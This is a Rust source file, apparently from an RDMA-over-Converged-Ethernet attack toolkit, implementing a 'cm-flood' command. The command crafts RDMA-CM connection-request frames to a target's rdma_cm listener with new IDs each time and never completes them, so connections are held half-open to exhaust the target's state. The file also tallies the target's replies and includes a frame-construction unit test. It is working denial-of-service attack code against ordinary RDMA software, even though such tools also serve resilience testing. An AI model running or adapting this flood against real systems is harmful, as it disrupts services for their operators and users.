//! `uroce attack cm-flood`: connection-state exhaustion through RDMA-CM, the SYN flood's twin.
//! Off-path: all it needs is the target's address and the port of its rdma_cm listener. Every
//! REQ (a GSI MAD to QP 1, service ID `RDMA_PS_TCP << 16 | port`) comes from the attacker's own
//! address with a new communication ID, QPN and starting PSN, and is never followed up: the
//! target's answer (a REP, when the application accepts; a REJ, when its CM refuses) says what
//! state it holds, and a REP left without an RTU holds a connection half-open until its
//! retries run out. The answers are counted from the attacker's interface.

use std::collections::BTreeMap;
use std::net::{IpAddr, Ipv4Addr};
use uroce_wire::cm::ip::{service_id, IpCmHeader, PortSpace, CMA_VERSION};
use uroce_wire::cm::{CmMessage, PathRepr, ReqRepr};
use uroce_wire::mad::{Mad, MAD_LEN};
use uroce_wire::{BthRepr, DethRepr, EthernetAddress, ExtHeaders, IpRepr, Opcode, Psn, Qpn};

/// The GSI's Q_Key (IBTA 9.6.1.1).
const GSI_QKEY: u32 = 0x8001_0000;

/// The two ends of the flood.
#[derive(Clone, Copy, Debug)]
pub struct Ends {
    /// The attacker's MAC and address.
    pub src: (EthernetAddress, Ipv4Addr),
    /// The target's MAC and address.
    pub dst: (EthernetAddress, Ipv4Addr),
}

/// One REQ, as a Linux rdma_cm client sends it (`cma_connect_ib`: the IP CM header with both
/// addresses and the client's port in the private data), from communication ID `comm_id`,
/// QPN `qpn`, starting PSN `psn`, to the listener on `port`.
pub fn req_frame(e: &Ends, port: u16, comm_id: u32, qpn: u32, psn: u32, src_port: u16) -> Vec<u8> {
    let mut private = [0u8; uroce_wire::cm::private_len::REQ];
    let hdr = IpCmHeader { version: CMA_VERSION, src_port, src: IpAddr::V4(e.src.1), dst: IpAddr::V4(e.dst.1) };
    if hdr.emit(&mut private).is_err() {
        return Vec::new();
    }
    let req = ReqRepr {
        local_comm_id: comm_id,
        service_id: service_id(PortSpace::Tcp, port),
        local_ca_guid: u64::from_be_bytes([0, 0, 0, 0, 0, 0, 0, 1]) ^ u64::from(comm_id) << 16,
        local_qkey: 0,
        local_qpn: qpn & 0xff_ffff,
        responder_resources: 1,
        local_eecn: 0,
        initiator_depth: 1,
        remote_eecn: 0,
        remote_cm_response_timeout: 20,
        transport: 0,
        e2e_flow_control: false,
        starting_psn: psn & 0xff_ffff,
        local_cm_response_timeout: 20,
        retry_count: 7,
        pkey: 0xffff,
        path_mtu: 3,
        rdc_exists: false,
        rnr_retry_count: 7,
        max_cm_retries: 15,
        srq: false,
        extended_transport: 0,
        primary: PathRepr {
            local_lid: 0xffff,
            remote_lid: 0xffff,
            local_gid: e.src.1.to_ipv6_mapped(),
            remote_gid: e.dst.1.to_ipv6_mapped(),
            flow_label: 0,
            packet_rate: 0,
            traffic_class: 0,
            hop_limit: 64,
            sl: 0,
            subnet_local: false,
            local_ack_timeout: 18,
        },
        alternate: PathRepr::NONE,
        private_data: &private,
    };
    let mut mad = [0u8; MAD_LEN];
    let tid = (u64::from(comm_id) << 8) | 0x1;
    if CmMessage::Req(req).emit(tid, 0, &mut mad).is_err() {
        return Vec::new();
    }
    let bth = BthRepr {
        opcode: Opcode::UD_SEND_ONLY,
        solicited: false,
        mig_req: false,
        pad_count: 0,
        pkey: 0xffff,
        fecn: false,
        becn: false,
        dest_qp: Qpn::new(1),
        ack_req: false,
        psn: Psn::new(psn & 0xff_ffff),
    };
    let ext = ExtHeaders { deth: Some(DethRepr { qkey: GSI_QKEY, src_qp: Qpn::new(1) }), ..ExtHeaders::default() };
    let sport = 0xc000 | (comm_id as u16 & 0x3fff);
    super::emit_v4((e.src.0, e.dst.0), (e.src.1, e.dst.1), sport, bth, ext, &mad)
}

/// The target's answers to the flood.
#[derive(Clone, Debug, Default)]
pub struct Answers {
    /// REPs: connections the target accepted and holds half-open.
    pub rep: u64,
    /// REJs by reason (IBTA table 112: 3 no resources, 8 invalid service ID, 28 consumer).
    pub rej: BTreeMap<u16, u64>,
    /// MRAs (the target asks for more time).
    pub mra: u64,
    /// Other CM messages to the attacker (DREQs, ...).
    pub other: u64,
    /// The attacker's communication IDs the target answered (a REP or REJ, retries once).
    pub answered: std::collections::HashSet<u32>,
}

impl Answers {
    /// Account one frame seen on the attacker's interface: a CM MAD from `target` to `me`.
    pub fn see(&mut self, frame: &[u8], target: Ipv4Addr, me: Ipv4Addr) {
        let Ok(p) = uroce_wire::parse_frame(frame) else { return };
        let IpRepr::V4(ip) = p.ip else { return };
        if ip.src_addr != target || ip.dst_addr != me || p.roce.bth.dest_qp.value() != 1 {
            return;
        }
        let Ok(mad) = Mad::parse(p.payload(), 0) else { return };
        match CmMessage::parse(&mad, 0) {
            Ok(CmMessage::Rep(r)) => {
                self.rep += 1;
                self.answered.insert(r.ids.remote);
            }
            Ok(CmMessage::Rej(r)) => {
                *self.rej.entry(r.reason.0).or_default() += 1;
                self.answered.insert(r.ids.remote);
            }
            Ok(CmMessage::Mra(_)) => self.mra += 1,
            Ok(CmMessage::Req(_)) | Err(_) => {}
            Ok(_) => self.other += 1,
        }
    }

    /// `rep=N rej=[reason=count ...] mra=N other=N`.
    pub fn line(&self) -> String {
        let rej: Vec<String> = self.rej.iter().map(|(r, n)| format!("{r}={n}")).collect();
        format!("rep={} rej=[{}] mra={} other={}", self.rep, rej.join(" "), self.mra, self.other)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_flood_req_is_a_linux_rdma_cm_req_to_qp1() {
        let e = Ends {
            src: (EthernetAddress([2, 0, 0, 0, 0, 0x66]), Ipv4Addr::new(10, 0, 0, 66)),
            dst: (EthernetAddress([2, 0, 0, 0, 0, 1]), Ipv4Addr::new(10, 0, 0, 1)),
        };
        let f = req_frame(&e, 18515, 0x1234_5678, 0xabcdef, 0x42, 40000);
        let p = uroce_wire::parse_frame_verified(&f).expect("a valid frame");
        assert_eq!(p.roce.bth.opcode, Opcode::UD_SEND_ONLY);
        assert_eq!(p.roce.bth.dest_qp.value(), 1);
        assert_eq!(p.roce.ext.deth.map(|d| d.qkey), Some(GSI_QKEY));
        let mad = Mad::parse(p.payload(), 0).expect("a MAD");
        let Ok(CmMessage::Req(r)) = CmMessage::parse(&mad, 0) else { panic!("not a REQ") };
        assert_eq!(r.local_comm_id, 0x1234_5678);
        assert_eq!(r.service_id, 0x0000_0000_0106_4853);
        assert_eq!(r.local_qpn, 0xabcdef);
        let hdr = IpCmHeader::parse(r.private_data, 0).expect("the IP CM header");
        assert_eq!((hdr.src, hdr.dst, hdr.src_port), (IpAddr::V4(e.src.1), IpAddr::V4(e.dst.1), 40000));
        // the answers are counted from what comes back
        let mut a = Answers::default();
        a.see(&f, e.dst.1, e.src.1);
        assert_eq!(a.line(), "rep=0 rej=[] mra=0 other=0", "only what the target sends the attacker");
        a.see(&f, e.src.1, e.dst.1);
        assert_eq!(a.line(), "rep=0 rej=[] mra=0 other=0", "a REQ is no answer");
    }
}
